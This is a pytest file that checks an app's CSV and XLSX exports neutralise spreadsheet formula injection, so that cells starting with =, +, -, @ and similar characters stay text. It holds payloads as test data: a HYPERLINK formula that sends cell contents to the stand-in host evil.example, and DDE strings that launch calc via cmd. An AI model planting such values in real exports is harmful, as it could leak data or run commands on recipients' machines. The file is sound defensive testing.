"""Exported text never runs as a formula: cells starting with = + - @ tab or CR stay text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.services.exports import FIGURE, Column, Sheet, to_csv, to_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _sheet() -> Sheet:
    return Sheet(
        "visits",
        "visits",
        [Column("Comment"), Column("Score", FIGURE)],
        [[a, 75.0] for a in ATTACKS],
    )


@pytest.mark.parametrize("index", range(len(ATTACKS)))
def test_a_csv_cell_that_would_start_a_formula_is_written_as_text(index):
    rows = list(csv.reader(io.StringIO(to_csv(_sheet()).lstrip("\ufeff"))))
    assert rows[1 + index][0] == "'" + ATTACKS[index]
    assert rows[1 + index][1] == "75.00"  # figures are untouched (two decimals)


def test_an_xlsx_cell_is_never_a_formula_and_keeps_the_text():
    book = load_workbook(io.BytesIO(to_xlsx([_sheet()])))
    sheet = book["visits"]
    cells = [sheet.cell(row=2 + i, column=1) for i in range(len(ATTACKS))]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS)
    assert all(c.quotePrefix for c in cells)  # and stays text if someone edits it
    # shown as typed, nothing runs (XML reads a bare CR back as a line feed)
    assert [c.value for c in cells] == [a.replace("\r", "\n") for a in ATTACKS]
    assert sheet.cell(row=2, column=2).value == 75.0


def test_a_header_from_checklist_text_is_inert_too():
    sheet = Sheet("visits", "visits", [Column("=cmd()")], [])
    assert to_csv(sheet).lstrip("\ufeff").splitlines()[0] == "'=cmd()"
    assert load_workbook(io.BytesIO(to_xlsx([sheet])))["visits"]["A1"].data_type == "s"


def _both(text: str) -> dict[str, str]:
    return {"en": text, "zh-CN": text}


HOSTILE_CHECKLIST = {
    "format": 1,
    "code": "hostile",
    "name": _both("=name()"),
    "sections": [
        {
            "id": "s1",
            "title": _both('=HYPERLINK("http://evil.example")'),
            "items": [
                {"id": "c1", "text": _both("+check()"), "kind": "check"},
                {
                    "id": "ch",
                    "text": _both("@choice()"),
                    "kind": "choice",
                    "options": [
                        {"id": "a", "text": _both("-option()"), "score": 1},
                        {"id": "b", "text": _both("=option()"), "score": 0},
                    ],
                },
                {
                    "id": "m1",
                    "text": _both("=measure()"),
                    "kind": "measure",
                    "better": "lower",
                    "target": 30,
                    "limit": 90,
                    "unit": _both("=unit()"),
                },
                {"id": "r1", "text": _both("=rating()"), "kind": "rating"},
                {"id": "t1", "text": _both("=text()"), "kind": "text", "required": False},
            ],
        }
    ],
}


def _hostile_wave(db, world):
    """Every text a user or a checklist can put into an export, each starting a formula."""
    from datetime import date

    from app.models import Branch, Wave, WaveBranch
    from app.services.checklists import import_checklist
    from tests.scorecards.conftest import add_visit

    version, _created = import_checklist(db, source=HOSTILE_CHECKLIST)
    east = world["regions"]["E"]
    east.name, east.code = "=region()", "@R"
    branch = world["branches"]["E1"]
    branch.name, branch.code = "=branch()", "+B1"
    rival = Branch(code="-RC", name="@rival()", region_id=east.id, competitor=True)
    db.add_all([east, branch, rival])
    wave = Wave(
        name="=wave()",
        starts_on=date(2026, 4, 6),
        ends_on=date(2026, 6, 26),
        checklist_version_id=version.id,
    )
    db.add(wave)
    db.flush()
    db.add_all(WaveBranch(wave_id=wave.id, branch_id=b.id) for b in (branch, rival))
    for place, choice in ((branch, "b"), (rival, "a")):
        answers = {"c1": "no", "ch": choice, "m1": 60, "r1": 3, "t1": "=HYPERLINK(A1)"}
        add_visit(db, wave=wave, branch=place, answers=answers)
    db.flush()
    return wave


def test_no_cell_of_any_export_runs_as_a_formula(client, db, world):
    from app.services.exports import FORMULA_STARTS, LEVELS
    from tests.conftest import login

    wave = _hostile_wave(db, world)
    login(client, "admin", "admin-pass")
    book = load_workbook(io.BytesIO(client.get(f"/exports/waves/{wave.id}.xlsx").content))
    assert len(book.worksheets) == len(LEVELS)
    hostile = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)
                    hostile += 1
    assert hostile >= 30  # names, codes, titles, texts, units, labels, answers on every sheet
    answers = {c.value for row in book.worksheets[0].iter_rows(min_row=2) for c in row}
    assert {"=option()", "-option()", "=HYPERLINK(A1)"} <= answers  # labels, not option ids
    for level in LEVELS:
        text = client.get(f"/exports/waves/{wave.id}.csv?level={level}").text
        cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
        assert any(c.startswith("'") for c in cells), level
        for value in cells:
            if value.startswith(FORMULA_STARTS):
                float(value)  # only a negative figure (a trend) may start with "-"
